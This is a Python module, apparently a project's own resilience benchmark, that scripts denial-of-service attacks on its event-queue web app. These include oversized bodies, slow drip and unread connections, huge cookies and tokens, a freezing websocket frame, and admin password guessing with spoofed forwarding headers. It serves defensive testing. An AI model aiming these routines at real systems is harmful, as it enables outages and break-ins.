"""The attackers of `bench attacks`: one machine, at most 100 connections, 1 MB/s for all."""

from __future__ import annotations

import asyncio
import secrets
import time
import uuid
from collections import Counter
from collections.abc import AsyncGenerator, Callable, Coroutine
from contextlib import suppress
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote, urlsplit

import aiohttp
import httpx

_CONNECTIONS = 100
_BYTES_A_SECOND = 1_000_000
# Of a body in chunks of one byte, as it goes over the line.
_CHUNKED_BYTES = 96_000
_ATTACKER = "198.51.100.7"
_TRAP = "TypeError: can't access property \"" * 20 + "," * 10_000


@dataclass(slots=True)
class Scene:
    """One attack: the site, its event, and a budget of bytes that all attackers share."""

    url: str
    slug: str
    until: float
    admin_user: str
    answers: Counter[str] = field(default_factory=Counter[str])
    sent: int = 0
    began: float = field(default_factory=time.monotonic)

    @property
    def is_over(self) -> bool:
        """Whether the time of the attack is up."""
        return time.monotonic() >= self.until

    async def spend(self, size: int) -> None:
        """Wait until `size` more bytes are within the budget."""
        self.sent += size
        behind = self.sent / _BYTES_A_SECOND - (time.monotonic() - self.began)
        if behind > 0:
            await asyncio.sleep(behind)


Attack = Callable[[Scene], Coroutine[Any, Any, None]]


async def _flood(scene: Scene, connections: int, request: Callable[[], dict[str, Any]]) -> None:
    """Send one kind of request over and over, from one address and within the budget."""

    async def one(http: httpx.AsyncClient) -> None:
        while not scene.is_over:
            wanted = request()
            body = wanted.get("content", b"")
            size = len(body) if isinstance(body, bytes) else _CHUNKED_BYTES
            await scene.spend(size + len(wanted["url"]) + 500)
            wanted["headers"] = {"x-forwarded-for": _ATTACKER} | wanted.get("headers", {})
            try:
                answer = await http.request(**wanted)
                scene.answers[str(answer.status_code)] += 1
            except httpx.HTTPError as error:
                scene.answers[type(error).__name__] += 1

    limits = httpx.Limits(max_connections=connections)
    async with httpx.AsyncClient(base_url=scene.url, timeout=30, limits=limits) as http:
        await asyncio.gather(*(one(http) for _ in range(connections)))


def _json(url: str, body: bytes, **headers: str) -> dict[str, Any]:
    kind = {"content-type": "application/json"} | headers
    return {"method": "POST", "url": url, "content": body, "headers": kind}


async def _unknown_fields(scene: Scene) -> None:
    body = b"{" + b",".join(b'"f%d":1' % number for number in range(104_000)) + b"}"
    await _flood(scene, 4, lambda: _json(f"/api/queue/{scene.slug}", body))


async def _small_unknown_fields(scene: Scene) -> None:
    body = b"{" + b",".join(b'"%d":1' % number for number in range(1_600)) + b"}"
    await _flood(scene, 20, lambda: _json(f"/api/queue/{scene.slug}", body))


async def _form_fields(scene: Scene) -> None:
    body = b"&".join(b"f%d=1" % number for number in range(100_000))
    kind = {"content-type": "application/x-www-form-urlencoded"}
    request = {"method": "POST", "url": "/api/bookings/find", "content": body, "headers": kind}
    await _flood(scene, 4, lambda: request)


async def _long_query(scene: Scene) -> None:
    query = "&".join(f"f{number}=1" for number in range(6_000))
    await _flood(scene, 8, lambda: {"method": "GET", "url": f"/api/events?{query}"})


async def _false_cookies(scene: Scene) -> None:
    def request() -> dict[str, Any]:
        cookie = f"surge_visitor={secrets.token_urlsafe(11_000)}"
        url = f"/api/queue/{scene.slug}"
        return {"method": "GET", "url": url, "headers": {"cookie": cookie}}

    await _flood(scene, 20, request)


async def _passwords(scene: Scene) -> None:
    def request() -> dict[str, Any]:
        address = f"198.51.100.{secrets.randbelow(4) + 1}"
        name = scene.admin_user
        pair = httpx.BasicAuth(name, secrets.token_hex(8))._auth_header  # noqa: SLF001
        headers = {"authorization": pair, "x-forwarded-for": address}
        return {"method": "GET", "url": f"/api/admin/events/{scene.slug}/stats", "headers": headers}

    await _flood(scene, 24, request)


async def _joins(scene: Scene) -> None:
    """Join as a new visitor each time, and never come for a turn."""
    await _flood(scene, 50, lambda: _json(f"/api/queue/{scene.slug}", b"{}", cookie="none=1"))


async def _unknown_events(scene: Scene) -> None:
    await _flood(
        scene, 50, lambda: {"method": "GET", "url": f"/events/{quote(secrets.token_hex(6))}"}
    )


async def _tiny_chunks(scene: Scene) -> None:
    """Send bodies in chunks of one byte, each of which once cost as much as a request."""

    async def body() -> AsyncGenerator[bytes]:
        for _ in range(16_000):
            yield b" "

    url = f"/api/queue/{scene.slug}"
    await _flood(scene, 8, lambda: {"method": "POST", "url": url, "content": body()})


async def _unread(scene: Scene) -> None:
    """Ask for large answers over and over, and never read one."""
    await _ask_unread(scene, "/api/openapi.json")


async def _unread_pictures(scene: Scene) -> None:
    """Ask for the picture of an event over and over, and never read it."""
    await _ask_unread(scene, f"/api/events/{scene.slug}/cover.jpg")


async def _ask_unread(scene: Scene, path: str) -> None:
    head = f"GET {path} HTTP/1.1\r\nHost: {urlsplit(scene.url).netloc}\r\n\r\n"
    await _stay_connected(scene, head * 8, head)


async def _drip(scene: Scene) -> None:
    """Open bodies that never end; each byte is sent a second after the other."""
    head = (
        f"POST /api/queue/{scene.slug} HTTP/1.1\r\nHost: {urlsplit(scene.url).netloc}\r\n"
        f"X-Forwarded-For: {_ATTACKER}\r\n"
        "Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n"
    )
    await _stay_connected(scene, head, " ")


async def _stay_connected(scene: Scene, first: str, each_second: str) -> None:
    """Keep many connections open, write to each once a second, and read from none."""
    target = urlsplit(scene.url)

    async def one() -> None:
        while not scene.is_over:
            with suppress(OSError):
                # The limit of its buffer stops the reader from taking what arrives.
                _, writer = await asyncio.open_connection(target.hostname, target.port, limit=1024)
                writer.write(first.encode())
                while not scene.is_over:
                    writer.write(each_second.encode())
                    await writer.drain()
                    await asyncio.sleep(1)
                writer.close()
            scene.answers["closed"] += 1
            await asyncio.sleep(0.2)

    await asyncio.gather(*(one() for _ in range(_CONNECTIONS)))


async def _frames(scene: Scene) -> None:
    """Send the frame that once froze a worker for twenty seconds, over sockets with a pass."""
    name = (
        "reflex___state____state.reflex___state____frontend_event_exception_state"
        ".handle_frontend_exception"
    )
    event = {"name": name, "payload": {"info": _TRAP, "component_stack": ""}, "router_data": {}}
    async with httpx.AsyncClient(base_url=scene.url) as http:
        await http.post(f"/api/queue/{scene.slug}", headers={"x-forwarded-for": _ATTACKER})
        cookie = "; ".join(f"{key}={value}" for key, value in http.cookies.items())
    await _sockets(scene, cookie, f'42/_event,["event",{httpx.Response(200, json=event).text}]')


async def _tokens(scene: Scene) -> None:
    """Connect over and over with tokens of sixty thousand letters."""
    await _sockets(scene, "", "2", token_length=60_000)


async def _sockets(scene: Scene, cookie: str, frame: str, *, token_length: int = 0) -> None:
    headers = {"cookie": cookie, "x-forwarded-for": _ATTACKER, "origin": scene.url}

    async def one(session: aiohttp.ClientSession) -> None:
        while not scene.is_over:
            token = "x" * token_length or str(uuid.uuid4())
            url = f"{scene.url}/_event/?token={token}&EIO=4&transport=websocket"
            try:
                async with session.ws_connect(url, headers=headers) as socket:
                    await socket.send_str("40/_event,")
                    for _ in range(20):
                        await scene.spend(len(frame))
                        await socket.send_str(frame)
                    scene.answers["connected"] += 1
            except (aiohttp.ClientError, OSError, TimeoutError) as error:
                scene.answers[type(error).__name__] += 1
                await scene.spend(token_length + 500)

    async with aiohttp.ClientSession() as session:
        await asyncio.gather(*(one(session) for _ in range(20)))


async def _nothing(scene: Scene) -> None:
    """Attack with nothing: what honest visitors feel on this machine anyway."""
    await asyncio.sleep(max(0.0, scene.until - time.monotonic()))


ATTACKS: dict[str, Attack] = {
    "nothing": _nothing,
    "unknown-fields": _unknown_fields,
    "small-unknown-fields": _small_unknown_fields,
    "form-fields": _form_fields,
    "long-query": _long_query,
    "false-cookies": _false_cookies,
    "tiny-chunks": _tiny_chunks,
    "unread": _unread,
    "unread-pictures": _unread_pictures,
    "drip": _drip,
    "frame": _frames,
    "token": _tokens,
    "passwords": _passwords,
    "joins": _joins,
    "unknown-events": _unknown_events,
}
